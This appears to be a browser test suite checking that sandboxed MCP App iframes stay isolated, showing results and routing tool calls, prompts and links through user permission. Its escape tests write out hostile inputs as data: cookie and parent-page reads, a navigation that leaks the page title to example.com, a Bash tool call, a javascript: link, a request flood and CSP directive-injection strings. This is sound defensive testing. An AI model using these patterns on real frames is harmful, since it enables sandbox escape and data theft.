/**
 * User interfaces of MCP tools (MCP Apps) in a real browser: they are shown, get the result, and what they ask for is asked
 * of a user. A frame that wants out, numbered: it reaches nothing of the page, of the server, or of the network.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { createSdkMcpServer, tool } from 'kedge'
import type { FrameLocator, Page } from 'playwright-core'
import { policyOf } from '../../src/server/mcp/app-frames.js'
import { eventually } from '../support/eventually.js'
import { whyNoBrowser } from './browser.js'
import { type PageStage, startPageStage } from './page-stage.js'

/** The app: shows what it gets, and does what the test types into it. */
const HTML = `<!doctype html><title>App</title><p id="result"></p><p id="said"></p>
<script>
let next = 1; const waiting = new Map()
const say = (text) => { document.getElementById('said').textContent = text }
const post = (message) => parent.postMessage({ jsonrpc: '2.0', ...message }, '*')
const ask = (method, params) => new Promise((resolve) => { const id = next++; waiting.set(id, resolve); post({ id, method, params }) })
addEventListener('message', ({ data }) => {
  if (waiting.has(data.id)) waiting.get(data.id)(data)
  if (data.method === 'ui/notifications/tool-result') document.getElementById('result').textContent = data.params.content[0].text
})
ask('ui/initialize', { appInfo: { name: 'test', version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' })
  .then(({ result }) => { post({ method: 'ui/notifications/initialized' }); post({ method: 'ui/notifications/size-changed', params: { height: 333 } }); say(result.protocolVersion) })
</script>`

const clear = tool('clear', 'Clears the desk', { type: 'object', properties: {} }, async () => ({
  content: [{ type: 'text', text: 'The desk is clear.' }],
}))
const show = {
  ...tool('show', 'Shows the desk', { type: 'object', properties: {} }, async () => ({
    content: [{ type: 'text', text: 'Three papers on the desk' }],
  })),
  _meta: { ui: { resourceUri: 'ui://desk/view' } },
}
const desk = createSdkMcpServer({
  name: 'desk',
  tools: [show, clear],
  requests: {
    'resources/list': () => ({ resources: [] }),
    'resources/read': ({ uri }) => ({ contents: [{ uri, mimeType: 'text/html;profile=mcp-app', text: HTML }] }),
  },
})

describe('MCP Apps on the page', { skip: whyNoBrowser !== undefined }, () => {
  let stage: PageStage
  let page: Page
  let app: FrameLocator
  let session = ''
  /** Runs code in the app. */
  const inApp = async <R>(code: string): Promise<R> => {
    const frame = page.frames().find((one) => one.url().includes('/mcp-app/'))
    assert.ok(frame)
    return frame.evaluate(code)
  }

  before(async () => {
    stage = await startPageStage(
      { 'show it': [{ tools: [{ name: 'mcp__desk__show', input: {} }] }, 'Shown.'], 'And now?': ['Nothing.'] },
      { options: { mcpServers: { desk }, allowedTools: ['mcp__desk__show'] } },
    )
    session = await stage.begin('show it')
    page = await stage.open(`#/s/${session}`)
    await page.getByRole('button', { name: /show/i }).first().click()
    app = page.frameLocator('iframe.app-frame')
  })
  after(() => stage?.[Symbol.asyncDispose]())

  test('an app is shown with the result of its call, at the height it asks for', async () => {
    // The page asks with `listMcpApps` which tools have one, and with `openMcpApp` for its document.
    await app.locator('#result', { hasText: 'Three papers on the desk' }).waitFor()
    await app.locator('#said', { hasText: '2026-01-26' }).waitFor()
    await eventually(
      'the height',
      async () => (await page.locator('iframe.app-frame').getAttribute('height')) === '333',
    )
  })
  test('a call that it asks for is a permission request that names it, and returns to it', async () => {
    // By `callMcpApp` of the server, `callMcpAppTool` of the query, and the request `mcp_app_call`.
    await inApp(
      `void ask('tools/call', { name: 'clear', arguments: {} }).then(({ result }) => say(result.content[0].text))`,
    )
    await eventually('the request', async () => (await stage.serving.call('GET', '/v1/asks')).json.asks.length === 1)
    const [ask] = (await stage.serving.call('GET', '/v1/asks')).json.asks
    assert.equal(ask.tool.name, 'mcp__desk__clear')
    assert.match(JSON.stringify(ask.why), /The user interface of the MCP server desk asks for this/)
    const answer = await stage.serving.call('POST', `/v1/sessions/${session}/asks/${ask.id}/answer`, {
      body: { kind: 'allow' },
    })
    assert.equal(answer.status, 204)
    await app.locator('#said', { hasText: 'The desk is clear.' }).waitFor()
  })
  test('a call that is denied is an error for it', async () => {
    await inApp(
      `void ask('tools/call', { name: 'clear', arguments: {} }).then(({ result }) => say(result.isError + ' ' + result.content[0].text))`,
    )
    await eventually(
      'the second request',
      async () => (await stage.serving.call('GET', '/v1/asks')).json.asks.length === 1,
    )
    const [ask] = (await stage.serving.call('GET', '/v1/asks')).json.asks
    await stage.serving.call('POST', `/v1/sessions/${session}/asks/${ask.id}/answer`, {
      body: { kind: 'deny', message: 'Not now.' },
    })
    await app.locator('#said', { hasText: 'true' }).waitFor()
  })
  test('a prompt is sent once a user agrees; a link is opened by a click of a user only', async () => {
    await inApp(
      `void ask('ui/message', { role: 'user', content: [{ type: 'text', text: 'And now?' }] }).then(({ result }) => say(JSON.stringify(result)))`,
    )
    await page.getByText('wants to send a prompt').waitFor()
    await page.getByRole('button', { name: 'Send prompt' }).click()
    await page.getByText('Nothing.').waitFor()
    await inApp(
      `void ask('ui/open-link', { url: 'https://example.com/paper' }).then(({ result }) => say('link ' + JSON.stringify(result)))`,
    )
    await page.getByText('https://example.com/paper').waitFor()
    assert.equal(await page.getByRole('link', { name: 'Open link' }).getAttribute('rel'), 'noopener noreferrer')
    await page.getByRole('button', { name: 'Dismiss' }).click()
    await app.locator('#said', { hasText: 'link {"isError":true}' }).waitFor()
  })

  const escapes: [title: string, code: string, expected: unknown][] = [
    [
      '1 a frame does not read the page',
      `(() => { try { return parent.document.title } catch (error) { return error.name } })()`,
      'SecurityError',
    ],
    [
      '2 a frame has no cookies',
      `(() => { try { return document.cookie } catch (error) { return error.name } })()`,
      'SecurityError',
    ],
    [
      '3 a frame has no storage',
      `(() => { try { return localStorage.length } catch (error) { return error.name } })()`,
      'SecurityError',
    ],
    [
      '4 a frame has no database',
      `(() => { try { indexedDB.open('x'); return 'opened' } catch (error) { return error.name } })()`,
      'SecurityError',
    ],
    ['5 a frame is of no origin', 'origin', 'null'],
    [
      '6 a frame does not call this server',
      `fetch('/v1/sessions').then((r) => r.status, (error) => error.name)`,
      'TypeError',
    ],
    [
      '7 a frame does not call another server',
      `fetch('https://example.com/').then((r) => r.status, (error) => error.name)`,
      'TypeError',
    ],
    [
      '8 a frame loads no script of this server',
      `new Promise((resolve) => { const s = document.createElement('script'); s.src = '/assets/x.js'; s.onload = () => resolve('loaded'); s.onerror = () => resolve('refused'); document.head.append(s) })`,
      'refused',
    ],
    ['9 a frame opens no window', `window.open('https://example.com/') === null`, true],
    [
      '10 a frame starts no worker',
      `new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => resolve('runs'); worker.onerror = () => resolve('refused') })`,
      'refused',
    ],
    [
      '11 a tool of another server is not its own',
      `ask('tools/call', { name: 'Bash', arguments: { command: 'id' } }).then(({ result }) => result.isError)`,
      true,
    ],
    [
      '12 a link that is a script is refused',
      `ask('ui/open-link', { url: 'javascript:alert(1)' }).then(({ error }) => error.code)`,
      -32602,
    ],
    [
      '13 a method that is not one of Apps is refused',
      `ask('kedge/answer', { kind: 'allow' }).then(({ error }) => error.code)`,
      -32601,
    ],
    [
      '14 messages that are none are left',
      `(() => { for (const one of [null, 1, 'x', [], { id: 1 }, { jsonrpc: '2.0', id: {}, method: 'x' }]) parent.postMessage(one, '*'); return 'sent' })()`,
      'sent',
    ],
  ]
  for (const [title, code, expected] of escapes)
    test(title, async () => {
      await app.locator('#said').waitFor({ state: 'attached' })
      assert.equal(await inApp(code), expected)
    })
  test('15 a thousand requests at once: most are refused, and the page lives', async () => {
    await inApp(
      `globalThis.refused = 0; for (let n = 0; n < 1000; n++) void ask('ui/open-link', { url: 'https://example.com/' }).then(({ error, result }) => { if (error || result.isError) refused += 1 })`,
    )
    await eventually('the refusals', async () => (await inApp<number>('refused')) === 999)
    await page.getByRole('button', { name: 'Dismiss' }).click()
  })
  test('16 a frame does not lead the page away', async () => {
    const before = page.url()
    await inApp(`(() => { try { top.location = 'https://example.com/' } catch (error) { return error.name } })()`)
    assert.equal(page.url(), before)
  })
  test('17 an address of a frame works once', async () => {
    const path = new URL((await page.locator('iframe.app-frame').getAttribute('src')) ?? '').pathname
    const { status } = await fetch(`${stage.serving.url}${path}`)
    assert.equal(status, 404)
  })
  test('18 a frame that navigates to another host shows nothing', async () => {
    await inApp(`setTimeout(() => { location.href = 'https://example.com/?leak=' + document.title }, 0)`).catch(
      () => {},
    )
    await eventually('the navigation', () => !page.frames().some((frame) => frame.url().includes('mcp-app')))
    assert.ok(!page.frames().some((frame) => frame.url().includes('leak=')))
  })
})

test('19 words of a server in its policy add no directive', () => {
  const lies = [
    "'self'",
    '*',
    'https:',
    'https://a.example; script-src *',
    'https://a.example\nx',
    'http://a.example',
    'data:',
    1,
    null,
  ]
  const policy = policyOf({ connectDomains: lies, resourceDomains: lies, frameDomains: 'https://a.example' }, [])
  assert.equal(policy, policyOf(undefined, []))
  assert.match(
    policyOf({ connectDomains: ['https://*.example.com', 'wss://x.example:8443'] }, []),
    /connect-src https:\/\/\*\.example\.com wss:\/\/x\.example:8443;/,
  )
})
